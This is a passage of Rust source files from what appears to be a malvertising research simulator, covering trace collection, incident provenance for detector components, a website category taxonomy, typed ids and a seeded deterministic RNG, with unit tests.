            .find(|l| l.kind == SpanKind::ClassifyAd && l.worker == Some(1))
            .unwrap();
        assert_eq!(classify_w1.hist.count(), 1);
        // Merged entries come first, and per-worker histograms re-merge to
        // the combined one.
        let first_per_worker = latencies.iter().position(|l| l.worker.is_some()).unwrap();
        assert!(latencies[..first_per_worker]
            .iter()
            .all(|l| l.worker.is_none()));
        let mut remerged = LogHistogram::new();
        for l in latencies
            .iter()
            .filter(|l| l.kind == SpanKind::ClassifyAd && l.worker.is_some())
        {
            remerged.merge(&l.hist);
        }
        assert_eq!(remerged, classify_all.hist);
    }

    #[test]
    fn slowest_spans_and_skew() {
        let report = sample();
        let slowest = report.slowest_spans(2);
        assert_eq!(slowest[0].kind, SpanKind::Crawl);
        assert_eq!(slowest[1].unit, 0xB);
        // Skew counts only unit work spans: workers 1 and 2, not worker 0's
        // stage span.
        let skew = report.worker_skew();
        assert_eq!(skew.len(), 2);
        assert_eq!(skew[&1].spans, 1);
        assert_eq!(skew[&1].busy_us, 2_000);
        assert_eq!(skew[&2].spans, 1);
    }

    #[test]
    fn summary_renders_all_sections() {
        let report = sample();
        let summary = report.render_summary(10);
        assert!(summary.contains("5 events"));
        assert!(summary.contains("slowest spans:"));
        assert!(summary.contains("per-worker skew"));
        assert!(summary.contains("flagged-ad provenance:"));
        assert!(summary.contains("component blacklists, hop 1, feeds[2]"));
    }

    #[test]
    fn write_dir_emits_both_files() {
        let report = sample();
        let dir = std::env::temp_dir().join("malvert-trace-export-test");
        let (events_path, chrome_path) = report.write_dir(&dir).unwrap();
        let events_text = std::fs::read_to_string(&events_path).unwrap();
        assert_eq!(events_text, report.to_jsonl());
        let chrome_text = std::fs::read_to_string(&chrome_path).unwrap();
        assert!(serde_json::from_str::<serde_json::Value>(&chrome_text)
            .unwrap()
            .is_array());
        let _ = std::fs::remove_dir_all(&dir);
    }
}
