//! The collector and the cheap recording handle threaded through the
//! pipeline.
//!
//! One [`TraceCollector`] owns the run; every recording thread holds a
//! [`TraceSink`]. Each sink clone created with [`TraceSink::for_worker`]
//! registers its own unbounded channel shard, so recording an event is a
//! single lock-free channel send — the registry lock is taken once per
//! shard, never per event. [`TraceCollector::finish`] drains every shard
//! and canonically sorts the events, which erases the (scheduling-
//! dependent) arrival order.

use crate::event::{SpanKind, TraceEvent, WallInfo};
use crate::export::TraceReport;
use crate::provenance::Provenance;
use crossbeam::channel::{unbounded, Receiver, Sender};
use parking_lot::Mutex;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

#[derive(Debug)]
struct CollectorInner {
    epoch: Instant,
    shards: Mutex<Vec<Receiver<TraceEvent>>>,
}

/// Owns one run's trace: hands out sinks, then drains them into a
/// [`TraceReport`].
#[derive(Debug)]
pub struct TraceCollector {
    inner: Arc<CollectorInner>,
}

impl TraceCollector {
    /// A fresh collector; its creation instant is the trace epoch.
    pub fn new() -> Self {
        TraceCollector {
            inner: Arc::new(CollectorInner {
                epoch: Instant::now(),
                shards: Mutex::new(Vec::new()),
            }),
        }
    }

    /// The root sink (worker 0, unit 0). Derive per-worker and per-unit
    /// sinks from it with [`TraceSink::for_worker`] / [`TraceSink::scoped`].
    pub fn sink(&self) -> TraceSink {
        TraceSink {
            inner: Some(SinkInner::register(&self.inner, 0, 0)),
        }
    }

    /// Drains every shard and returns the canonical-sorted report. Call
    /// after the traced work has completed (all events already sent).
    pub fn finish(self) -> TraceReport {
        let mut events = Vec::new();
        for shard in self.inner.shards.lock().iter() {
            events.extend(shard.try_iter());
        }
        TraceReport::new(events)
    }
}

impl Default for TraceCollector {
    fn default() -> Self {
        Self::new()
    }
}

#[derive(Debug, Clone)]
struct SinkInner {
    collector: Arc<CollectorInner>,
    tx: Sender<TraceEvent>,
    worker: u32,
    unit: u64,
    seq: Arc<AtomicU32>,
}

impl SinkInner {
    fn register(collector: &Arc<CollectorInner>, worker: u32, unit: u64) -> SinkInner {
        let (tx, rx) = unbounded();
        collector.shards.lock().push(rx);
        SinkInner {
            collector: Arc::clone(collector),
            tx,
            worker,
            unit,
            seq: Arc::new(AtomicU32::new(0)),
        }
    }

    fn now_us(&self) -> u64 {
        self.collector.epoch.elapsed().as_micros() as u64
    }

    fn send(
        &self,
        seq: u32,
        kind: SpanKind,
        name: String,
        provenance: Option<Provenance>,
        ts_us: u64,
        dur_us: Option<u64>,
    ) {
        let event = TraceEvent {
            id: TraceEvent::stable_id(self.unit, seq, kind),
            unit: self.unit,
            seq,
            kind,
            name,
            provenance,
            wall: Some(WallInfo {
                ts_us,
                dur_us,
                worker: self.worker,
            }),
        };
        // A send only fails when the collector (and its receivers) are
        // gone; late events after finish() are deliberately dropped.
        let _ = self.tx.send(event);
    }
}

/// The cheap recording handle. Cloning shares the unit's sequence counter;
/// a disabled sink turns every call into a no-op.
#[derive(Debug, Clone)]
pub struct TraceSink {
    inner: Option<SinkInner>,
}

impl TraceSink {
    /// A sink that records nothing — the default for untraced runs.
    pub fn disabled() -> TraceSink {
        TraceSink { inner: None }
    }

    /// Whether events recorded on this sink go anywhere.
    pub fn is_enabled(&self) -> bool {
        self.inner.is_some()
    }

    /// A sink for worker `worker`, backed by its own channel shard so
    /// workers never contend. Call once per worker thread, then [`Self::scoped`]
    /// per work unit.
    pub fn for_worker(&self, worker: u32) -> TraceSink {
        match &self.inner {
            Some(inner) => TraceSink {
                inner: Some(SinkInner::register(&inner.collector, worker, inner.unit)),
            },
            None => TraceSink::disabled(),
        }
    }

    /// A sink bound to work unit `unit` with a fresh sequence counter.
    /// Every event of one unit must be recorded through one scoped sink
    /// (single-threaded per unit), which makes the unit's sequence numbers
    /// deterministic.
    pub fn scoped(&self, unit: u64) -> TraceSink {
        match &self.inner {
            Some(inner) => TraceSink {
                inner: Some(SinkInner {
                    unit,
                    seq: Arc::new(AtomicU32::new(0)),
                    ..inner.clone()
                }),
            },
            None => TraceSink::disabled(),
        }
    }

    /// Opens a span; it records itself (with its duration) when dropped or
    /// [`SpanGuard::finish`]ed. The sequence number is claimed at open time,
    /// so an enclosing span sorts before the spans it contains.
    pub fn span(&self, kind: SpanKind, name: impl Into<String>) -> SpanGuard {
        match &self.inner {
            Some(inner) => SpanGuard {
                inner: Some(SpanGuardInner {
                    sink: inner.clone(),
                    kind,
                    name: name.into(),
                    seq: inner.seq.fetch_add(1, Ordering::Relaxed),
                    ts_us: inner.now_us(),
                    start: Instant::now(),
                }),
            },
            None => SpanGuard { inner: None },
        }
    }

    /// Records an instant event (no duration).
    pub fn event(&self, kind: SpanKind, name: impl Into<String>) {
        if let Some(inner) = &self.inner {
            let seq = inner.seq.fetch_add(1, Ordering::Relaxed);
            let ts = inner.now_us();
            inner.send(seq, kind, name.into(), None, ts, None);
        }
    }

    /// Records an incident event carrying its provenance.
    pub fn incident(&self, name: impl Into<String>, provenance: Provenance) {
        if let Some(inner) = &self.inner {
            let seq = inner.seq.fetch_add(1, Ordering::Relaxed);
            let ts = inner.now_us();
            inner.send(
                seq,
                SpanKind::Incident,
                name.into(),
                Some(provenance),
                ts,
                None,
            );
        }
    }

    /// Records a span that already completed (duration measured by the
    /// caller — e.g. world generation, which predates the collector).
    pub fn span_completed(&self, kind: SpanKind, name: impl Into<String>, dur: Duration) {
        if let Some(inner) = &self.inner {
            let seq = inner.seq.fetch_add(1, Ordering::Relaxed);
            let ts = inner.now_us();
            inner.send(
                seq,
                kind,
                name.into(),
                None,
                ts,
                Some(dur.as_micros() as u64),
            );
        }
    }
}

struct SpanGuardInner {
    sink: SinkInner,
    kind: SpanKind,
    name: String,
    seq: u32,
    ts_us: u64,
    start: Instant,
}

/// An open span; records itself on drop. Obtained from [`TraceSink::span`].
pub struct SpanGuard {
    inner: Option<SpanGuardInner>,
}

impl SpanGuard {
    /// Closes the span now (equivalent to dropping it; reads better at call
    /// sites that want an explicit end).
    pub fn finish(self) {}
}

impl Drop for SpanGuard {
    fn drop(&mut self) {
        if let Some(guard) = self.inner.take() {
            let dur_us = guard.start.elapsed().as_micros() as u64;
            guard.sink.send(
                guard.seq,
                guard.kind,
                guard.name,
                None,
                guard.ts_us,
                Some(dur_us),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_sink_is_inert() {
        let sink = TraceSink::disabled();
        assert!(!sink.is_enabled());
        sink.event(SpanKind::Crawl, "nothing");
        sink.span(SpanKind::Crawl, "nothing").finish();
        let scoped = sink.scoped(42).for_worker(3);
        assert!(!scoped.is_enabled());
    }

    #[test]
    fn events_collect_across_workers_in_canonical_order() {
        let collector = TraceCollector::new();
        let root = collector.sink();
        assert!(root.is_enabled());
        root.event(SpanKind::Crawl, "stage");

        let w1 = root.for_worker(1);
        let w2 = root.for_worker(2);
        // Record units "out of order" across two worker shards.
        let unit_b = w2.scoped(0xBBBB);
        unit_b.span(SpanKind::CrawlVisit, "b").finish();
        let unit_a = w1.scoped(0xAAAA);
        unit_a.span(SpanKind::CrawlVisit, "a").finish();
        unit_a.event(SpanKind::Incident, "a-incident");

        let report = collector.finish();
        let events = report.events();
        assert_eq!(events.len(), 4);
        // Canonical order: unit 0 first, then 0xAAAA (seq 0, 1), then 0xBBBB.
        assert_eq!(events[0].unit, 0);
        assert_eq!(events[1].unit, 0xAAAA);
        assert_eq!(events[1].seq, 0);
        assert_eq!(events[2].unit, 0xAAAA);
        assert_eq!(events[2].seq, 1);
        assert_eq!(events[3].unit, 0xBBBB);
        // Worker attribution landed in the wall envelope.
        assert_eq!(events[1].wall.unwrap().worker, 1);
        assert_eq!(events[3].wall.unwrap().worker, 2);
        // Spans carry durations; instants do not.
        assert!(events[1].wall.unwrap().dur_us.is_some());
        assert!(events[2].wall.unwrap().dur_us.is_none());
    }

    #[test]
    fn span_guard_records_on_drop_with_open_order_seq() {
        let collector = TraceCollector::new();
        let sink = collector.sink().scoped(7);
        {
            let outer = sink.span(SpanKind::ClassifyAd, "outer");
            let inner = sink.span(SpanKind::HoneyclientVisit, "inner");
            inner.finish();
            outer.finish();
        }
        let report = collector.finish();
        let events = report.events();
        assert_eq!(events.len(), 2);
        // The outer span claimed seq 0 at open time even though it closed
        // last, so it sorts first.
        assert_eq!(events[0].name, "outer");
        assert_eq!(events[1].name, "inner");
    }

    #[test]
    fn identical_recordings_strip_to_identical_payloads() {
        let record = || {
            let collector = TraceCollector::new();
            let sink = collector.sink();
            let unit = sink.scoped(0x1234);
            unit.span(SpanKind::ClassifyAd, "http://ad.example/slot")
                .finish();
            unit.incident(
                "[Blacklists] evil.biz listed by 9 feeds",
                crate::Provenance::component(crate::OracleComponent::Blacklists).at_hop(2),
            );
            collector.finish()
        };
        let a = record();
        let b = record();
        assert_eq!(a.deterministic_jsonl(), b.deterministic_jsonl());
        // The raw streams differ only in their wall envelopes (maybe not
        // even that, but ids/units/seqs always agree).
        for (x, y) in a.events().iter().zip(b.events()) {
            assert_eq!(x.stripped(), y.stripped());
        }
    }
}
