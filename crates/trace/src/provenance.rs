//! Incident provenance: which oracle component fired, where in the
//! redirect chain, and on what evidence.
//!
//! The paper's oracle fuses three detector components (§3.2); a flagged ad
//! is only diagnosable from a run artifact if each incident records the
//! component that raised it and the evidence it saw. [`Provenance`] is that
//! record — serialized alongside the classified ad and echoed into the
//! trace event stream. It is entirely deterministic in the study seed.

use serde::{Deserialize, Serialize};

/// The oracle component that raised an incident.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum OracleComponent {
    /// The thresholded blacklist aggregate (§3.2.2).
    Blacklists,
    /// Honeyclient behaviour heuristics: redirection tells and drive-by /
    /// deceptive patterns (§3.2.1).
    Honeyclient,
    /// The multi-engine payload scanner (§3.2.3).
    Scanner,
    /// The previously-known-behaviour model database (§4.1).
    ModelDb,
}

impl OracleComponent {
    /// Human-readable component name.
    pub fn label(self) -> &'static str {
        match self {
            OracleComponent::Blacklists => "blacklists",
            OracleComponent::Honeyclient => "honeyclient",
            OracleComponent::Scanner => "scanner",
            OracleComponent::ModelDb => "model-db",
        }
    }
}

/// Why one incident fired: the component, the redirect-chain hop of the
/// host that triggered it (when host-attributable), and the per-component
/// evidence (matching feed names, flagging engine names).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Provenance {
    /// The component that raised the incident.
    pub component: OracleComponent,
    /// Index of the triggering host within the visit's contacted-host list
    /// (first-contact order — the ad path). `None` when the incident is a
    /// whole-visit behavioural signal rather than a per-host one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub chain_hop: Option<u32>,
    /// Names of the blacklist feeds that listed the triggering host
    /// (blacklist incidents only).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub matched_feeds: Vec<String>,
    /// Names of the scan engines that flagged the payload (scanner
    /// incidents only).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub engine_votes: Vec<String>,
}

impl Provenance {
    /// A provenance record for `component` with no evidence attached yet.
    pub fn component(component: OracleComponent) -> Self {
        Provenance {
            component,
            chain_hop: None,
            matched_feeds: Vec::new(),
            engine_votes: Vec::new(),
        }
    }

    /// Attributes the incident to hop `hop` of the contacted-host list.
    pub fn at_hop(mut self, hop: usize) -> Self {
        self.chain_hop = Some(hop as u32);
        self
    }

    /// Attaches the names of the feeds that listed the host.
    pub fn with_feeds(mut self, feeds: Vec<String>) -> Self {
        self.matched_feeds = feeds;
        self
    }

    /// Attaches the names of the engines that flagged the payload.
    pub fn with_votes(mut self, votes: Vec<String>) -> Self {
        self.engine_votes = votes;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builder_chains_evidence() {
        let p = Provenance::component(OracleComponent::Blacklists)
            .at_hop(3)
            .with_feeds(vec!["MalwareList-00".into()]);
        assert_eq!(p.chain_hop, Some(3));
        assert_eq!(p.matched_feeds.len(), 1);
        assert!(p.engine_votes.is_empty());
    }

    #[test]
    fn serialization_is_compact_and_round_trips() {
        let p = Provenance::component(OracleComponent::Honeyclient);
        let json = serde_json::to_string(&p).unwrap();
        // Empty evidence is omitted entirely.
        assert_eq!(json, "{\"component\":\"honeyclient\"}");
        let back: Provenance = serde_json::from_str(&json).unwrap();
        assert_eq!(back, p);

        let full = Provenance::component(OracleComponent::Scanner)
            .at_hop(0)
            .with_votes(vec!["Engine00AV".into(), "Engine01AV".into()]);
        let json = serde_json::to_string(&full).unwrap();
        assert!(json.contains("\"chain_hop\":0"));
        let back: Provenance = serde_json::from_str(&json).unwrap();
        assert_eq!(back, full);
    }

    #[test]
    fn labels_are_distinct() {
        let labels: std::collections::BTreeSet<_> = [
            OracleComponent::Blacklists,
            OracleComponent::Honeyclient,
            OracleComponent::Scanner,
            OracleComponent::ModelDb,
        ]
        .iter()
        .map(|c| c.label())
        .collect();
        assert_eq!(labels.len(), 4);
    }
}
