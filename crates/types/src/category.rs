//! Website content taxonomy.
//!
//! Figure 3 of the paper buckets malvertisement-hosting websites into content
//! categories and finds entertainment and news together make up about a third
//! of them, with adult content in third place. This enum is the category axis
//! used by the site generator and by the Figure 3 analysis.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Content category of a website.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum SiteCategory {
    /// Entertainment: streaming, celebrity, games portals.
    Entertainment,
    /// News and media outlets.
    News,
    /// Adult content.
    Adult,
    /// Online shopping and classifieds.
    Shopping,
    /// Technology and software.
    Technology,
    /// Sports coverage.
    Sports,
    /// File sharing, downloads, warez-adjacent.
    FileSharing,
    /// Blogs and personal pages.
    Blogs,
    /// Social networking.
    Social,
    /// Finance and business.
    Finance,
    /// Travel.
    Travel,
    /// Education and reference.
    Education,
    /// Health.
    Health,
    /// Everything else.
    Other,
}

impl SiteCategory {
    /// All categories, in canonical order.
    pub const ALL: [SiteCategory; 14] = [
        SiteCategory::Entertainment,
        SiteCategory::News,
        SiteCategory::Adult,
        SiteCategory::Shopping,
        SiteCategory::Technology,
        SiteCategory::Sports,
        SiteCategory::FileSharing,
        SiteCategory::Blogs,
        SiteCategory::Social,
        SiteCategory::Finance,
        SiteCategory::Travel,
        SiteCategory::Education,
        SiteCategory::Health,
        SiteCategory::Other,
    ];

    /// Human-readable label, as used in report rows.
    pub fn label(self) -> &'static str {
        match self {
            SiteCategory::Entertainment => "Entertainment",
            SiteCategory::News => "News",
            SiteCategory::Adult => "Adult",
            SiteCategory::Shopping => "Shopping",
            SiteCategory::Technology => "Technology",
            SiteCategory::Sports => "Sports",
            SiteCategory::FileSharing => "File sharing",
            SiteCategory::Blogs => "Blogs",
            SiteCategory::Social => "Social networking",
            SiteCategory::Finance => "Finance",
            SiteCategory::Travel => "Travel",
            SiteCategory::Education => "Education",
            SiteCategory::Health => "Health",
            SiteCategory::Other => "Other",
        }
    }

    /// Dense index of the category within [`SiteCategory::ALL`].
    pub fn index(self) -> usize {
        Self::ALL
            .iter()
            .position(|c| *c == self)
            .expect("category present in ALL")
    }
}

impl fmt::Display for SiteCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_contains_every_category_once() {
        let mut seen = std::collections::BTreeSet::new();
        for c in SiteCategory::ALL {
            assert!(seen.insert(c), "{c} duplicated in ALL");
        }
        assert_eq!(seen.len(), 14);
    }

    #[test]
    fn index_roundtrip() {
        for (i, c) in SiteCategory::ALL.iter().enumerate() {
            assert_eq!(c.index(), i);
        }
    }

    #[test]
    fn labels_nonempty_and_unique() {
        let labels: std::collections::BTreeSet<_> =
            SiteCategory::ALL.iter().map(|c| c.label()).collect();
        assert_eq!(labels.len(), SiteCategory::ALL.len());
        assert!(labels.iter().all(|l| !l.is_empty()));
    }
}
