//! Typed identifiers.
//!
//! Each entity population in the simulation (sites, ad networks, campaigns,
//! creatives, payloads, pages) is indexed densely from zero, so ids are thin
//! `u32` newtypes. The newtype wall prevents the classic measurement-code bug
//! of indexing the wrong table with the right integer.

use serde::{Deserialize, Serialize};

macro_rules! define_id {
    ($(#[$meta:meta])* $name:ident, $prefix:expr) => {
        $(#[$meta])*
        #[derive(
            Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize,
        )]
        pub struct $name(pub u32);

        impl $name {
            /// Returns the dense index of this id.
            #[inline]
            pub fn index(self) -> usize {
                self.0 as usize
            }

            /// Builds an id from a dense index.
            ///
            /// # Panics
            /// Panics if `idx` does not fit in `u32`.
            #[inline]
            pub fn from_index(idx: usize) -> Self {
                Self(u32::try_from(idx).expect("id index exceeds u32"))
            }
        }

        impl std::fmt::Display for $name {
            fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                write!(f, concat!($prefix, "{}"), self.0)
            }
        }
    };
}

define_id!(
    /// A website in the simulated Web (a publisher or plain content site).
    SiteId,
    "site-"
);
define_id!(
    /// An ad network / ad exchange.
    AdNetworkId,
    "adnet-"
);
define_id!(
    /// An advertiser campaign (a book of creatives with one behaviour).
    CampaignId,
    "campaign-"
);
define_id!(
    /// A single advertisement creative (the servable HTML+script unit).
    CreativeId,
    "creative-"
);
define_id!(
    /// A downloadable payload (simulated executable or Flash file).
    PayloadId,
    "payload-"
);
define_id!(
    /// A page within a site.
    PageId,
    "page-"
);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_index() {
        let id = SiteId::from_index(42);
        assert_eq!(id.index(), 42);
        assert_eq!(id, SiteId(42));
    }

    #[test]
    fn display_prefixes() {
        assert_eq!(SiteId(3).to_string(), "site-3");
        assert_eq!(AdNetworkId(0).to_string(), "adnet-0");
        assert_eq!(CampaignId(9).to_string(), "campaign-9");
        assert_eq!(CreativeId(1).to_string(), "creative-1");
        assert_eq!(PayloadId(7).to_string(), "payload-7");
        assert_eq!(PageId(2).to_string(), "page-2");
    }

    #[test]
    fn ordering_follows_index() {
        assert!(SiteId(1) < SiteId(2));
    }

    #[test]
    #[should_panic(expected = "id index exceeds u32")]
    fn from_index_overflow_panics() {
        let _ = SiteId::from_index(u32::MAX as usize + 1);
    }
}
