//! Deterministic random-number substrate.
//!
//! The study must be reproducible from a single `u64` seed. We do not rely on
//! `rand`'s `StdRng` (whose algorithm is not stable across crate versions) but
//! implement the generators ourselves:
//!
//! * [`SplitMix64`] — a tiny stateless-feeling mixer, used to expand seeds and
//!   to derive child seeds from a parent seed plus a label.
//! * [`DetRng`] — xoshiro256\*\*, a high-quality 256-bit-state generator that
//!   implements [`rand::RngCore`] so the whole `rand` distribution toolbox
//!   (`gen_range`, `Bernoulli`, shuffles, …) works on top of it.
//! * [`SeedTree`] — hierarchical seed derivation. Every subsystem gets its own
//!   labelled branch (`tree.branch("websim")`), so inserting a new consumer of
//!   randomness in one subsystem never perturbs the streams of another.

use rand::{RngCore, SeedableRng};

/// SplitMix64 step: advances `state` and returns the next mixed output.
///
/// This is the standard finalizer used to seed xoshiro generators; it is also
/// an excellent general-purpose 64-bit mixer.
#[inline]
pub fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// A SplitMix64 generator, mainly used for seed expansion.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SplitMix64 {
    state: u64,
}

impl SplitMix64 {
    /// Creates a generator from a raw seed.
    pub fn new(seed: u64) -> Self {
        Self { state: seed }
    }

    /// Returns the next 64-bit output.
    #[allow(clippy::should_implement_trait)] // canonical SplitMix64 API name
    pub fn next(&mut self) -> u64 {
        splitmix64(&mut self.state)
    }
}

/// Mixes a label (arbitrary bytes) into a seed, FNV-1a style followed by a
/// SplitMix64 finalization. Used for labelled seed derivation.
pub fn mix_label(seed: u64, label: &[u8]) -> u64 {
    const FNV_OFFSET: u64 = 0xCBF2_9CE4_8422_2325;
    const FNV_PRIME: u64 = 0x0000_0100_0000_01B3;
    let mut h = FNV_OFFSET ^ seed;
    for &b in label {
        h ^= u64::from(b);
        h = h.wrapping_mul(FNV_PRIME);
    }
    // Finalize so that similar labels do not produce correlated seeds.
    let mut s = h;
    splitmix64(&mut s)
}

/// The workspace's deterministic RNG: xoshiro256\*\*.
///
/// Implements [`RngCore`] and [`SeedableRng`] so all of `rand`'s combinators
/// are available. The algorithm is fixed here, in this crate, and therefore
/// stable regardless of `rand` version bumps.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DetRng {
    s: [u64; 4],
}

impl DetRng {
    /// Creates a generator from a single `u64` seed via SplitMix64 expansion.
    pub fn new(seed: u64) -> Self {
        let mut sm = SplitMix64::new(seed);
        let mut s = [0u64; 4];
        for slot in &mut s {
            *slot = sm.next();
        }
        // xoshiro must not be seeded with all zeros; SplitMix64 of any seed
        // cannot produce four zero outputs in a row, but guard anyway.
        if s == [0, 0, 0, 0] {
            s[0] = 0x9E37_79B9_7F4A_7C15;
        }
        Self { s }
    }

    #[inline]
    fn next_u64_impl(&mut self) -> u64 {
        let s = &mut self.s;
        let result = s[1]
            .wrapping_mul(5)
            .rotate_left(7)
            .wrapping_mul(9);
        let t = s[1] << 17;
        s[2] ^= s[0];
        s[3] ^= s[1];
        s[1] ^= s[2];
        s[0] ^= s[3];
        s[2] ^= t;
        s[3] = s[3].rotate_left(45);
        result
    }

    /// Draws a uniformly distributed `f64` in `[0, 1)`.
    pub fn unit_f64(&mut self) -> f64 {
        // 53 high-quality bits into the mantissa.
        (self.next_u64_impl() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// Returns `true` with probability `p` (clamped to `[0, 1]`).
    pub fn chance(&mut self, p: f64) -> bool {
        if p <= 0.0 {
            false
        } else if p >= 1.0 {
            true
        } else {
            self.unit_f64() < p
        }
    }

    /// Draws a uniform integer in `[0, bound)`. `bound` must be non-zero.
    pub fn below(&mut self, bound: usize) -> usize {
        assert!(bound > 0, "DetRng::below called with bound 0");
        // Lemire's nearly-divisionless method on 64 bits.
        let bound = bound as u64;
        let mut x = self.next_u64_impl();
        let mut m = (x as u128).wrapping_mul(bound as u128);
        let mut l = m as u64;
        if l < bound {
            let t = bound.wrapping_neg() % bound;
            while l < t {
                x = self.next_u64_impl();
                m = (x as u128).wrapping_mul(bound as u128);
                l = m as u64;
            }
        }
        (m >> 64) as usize
    }

    /// Draws a uniform integer in the inclusive range `[lo, hi]`.
    pub fn range_inclusive(&mut self, lo: usize, hi: usize) -> usize {
        assert!(lo <= hi, "DetRng::range_inclusive: lo > hi");
        lo + self.below(hi - lo + 1)
    }

    /// Picks a uniformly random element of `items`, or `None` when empty.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> Option<&'a T> {
        if items.is_empty() {
            None
        } else {
            Some(&items[self.below(items.len())])
        }
    }

    /// Picks an index according to `weights` (need not be normalized).
    ///
    /// Returns `None` when `weights` is empty or sums to zero.
    pub fn pick_weighted(&mut self, weights: &[f64]) -> Option<usize> {
        let total: f64 = weights.iter().filter(|w| w.is_finite() && **w > 0.0).sum();
        if total <= 0.0 {
            return None;
        }
        let mut target = self.unit_f64() * total;
        for (i, &w) in weights.iter().enumerate() {
            if w.is_finite() && w > 0.0 {
                if target < w {
                    return Some(i);
                }
                target -= w;
            }
        }
        // Floating-point slack: return the last positive-weight index.
        weights
            .iter()
            .rposition(|w| w.is_finite() && *w > 0.0)
    }

    /// Fisher–Yates shuffles `items` in place.
    pub fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = self.below(i + 1);
            items.swap(i, j);
        }
    }

    /// Draws from a zero-truncated geometric-ish distribution: returns `k >= 1`
    /// where each increment continues with probability `continue_p`, capped at
    /// `cap`. Used for e.g. arbitration chain extension.
    pub fn geometric_capped(&mut self, continue_p: f64, cap: usize) -> usize {
        let mut k = 1;
        while k < cap && self.chance(continue_p) {
            k += 1;
        }
        k
    }
}

impl RngCore for DetRng {
    fn next_u32(&mut self) -> u32 {
        (self.next_u64_impl() >> 32) as u32
    }

    fn next_u64(&mut self) -> u64 {
        self.next_u64_impl()
    }

    fn fill_bytes(&mut self, dest: &mut [u8]) {
        let mut chunks = dest.chunks_exact_mut(8);
        for chunk in &mut chunks {
            chunk.copy_from_slice(&self.next_u64_impl().to_le_bytes());
        }
        let rem = chunks.into_remainder();
        if !rem.is_empty() {
            let bytes = self.next_u64_impl().to_le_bytes();
            rem.copy_from_slice(&bytes[..rem.len()]);
        }
    }

    fn try_fill_bytes(&mut self, dest: &mut [u8]) -> Result<(), rand::Error> {
        self.fill_bytes(dest);
        Ok(())
    }
}

impl SeedableRng for DetRng {
    type Seed = [u8; 8];

    fn from_seed(seed: Self::Seed) -> Self {
        Self::new(u64::from_le_bytes(seed))
    }

    fn seed_from_u64(state: u64) -> Self {
        Self::new(state)
    }
}

/// Hierarchical, labelled seed derivation.
///
/// A `SeedTree` is a point in a tree of seeds. [`SeedTree::branch`] derives a
/// child tree from a string label; [`SeedTree::branch_idx`] derives one from an
/// integer (e.g. a site id). [`SeedTree::rng`] materializes the generator at
/// the current point.
///
/// ```
/// use malvert_types::rng::SeedTree;
/// let root = SeedTree::new(42);
/// let websim = root.branch("websim");
/// let site_7 = websim.branch_idx(7);
/// let mut rng = site_7.rng();
/// let a = rand::RngCore::next_u64(&mut rng);
/// // Re-deriving the same path yields the same stream.
/// let mut rng2 = SeedTree::new(42).branch("websim").branch_idx(7).rng();
/// assert_eq!(a, rand::RngCore::next_u64(&mut rng2));
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SeedTree {
    seed: u64,
}

impl SeedTree {
    /// Roots a tree at `seed`.
    pub fn new(seed: u64) -> Self {
        Self { seed }
    }

    /// The raw seed at this point of the tree.
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// Derives a child tree from a string label.
    pub fn branch(&self, label: &str) -> SeedTree {
        SeedTree {
            seed: mix_label(self.seed, label.as_bytes()),
        }
    }

    /// Derives a child tree from an integer label.
    pub fn branch_idx(&self, idx: u64) -> SeedTree {
        SeedTree {
            seed: mix_label(self.seed, &idx.to_le_bytes()),
        }
    }

    /// Materializes the deterministic RNG at this point.
    pub fn rng(&self) -> DetRng {
        DetRng::new(self.seed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splitmix_known_vector() {
        // Reference values for seed 0 from the public-domain implementation.
        let mut s = SplitMix64::new(0);
        assert_eq!(s.next(), 0xE220_A839_7B1D_CDAF);
        assert_eq!(s.next(), 0x6E78_9E6A_A1B9_65F4);
        assert_eq!(s.next(), 0x06C4_5D18_8009_454F);
    }

    #[test]
    fn detrng_is_deterministic() {
        let mut a = DetRng::new(123);
        let mut b = DetRng::new(123);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn detrng_different_seeds_differ() {
        let mut a = DetRng::new(1);
        let mut b = DetRng::new(2);
        let same = (0..64).filter(|_| a.next_u64() == b.next_u64()).count();
        assert!(same < 4, "streams from different seeds overlap heavily");
    }

    #[test]
    fn unit_f64_in_range() {
        let mut rng = DetRng::new(7);
        for _ in 0..10_000 {
            let x = rng.unit_f64();
            assert!((0.0..1.0).contains(&x));
        }
    }

    #[test]
    fn below_uniformity_rough() {
        let mut rng = DetRng::new(99);
        let mut counts = [0usize; 10];
        for _ in 0..100_000 {
            counts[rng.below(10)] += 1;
        }
        for &c in &counts {
            assert!((8_000..12_000).contains(&c), "bucket count {c} out of band");
        }
    }

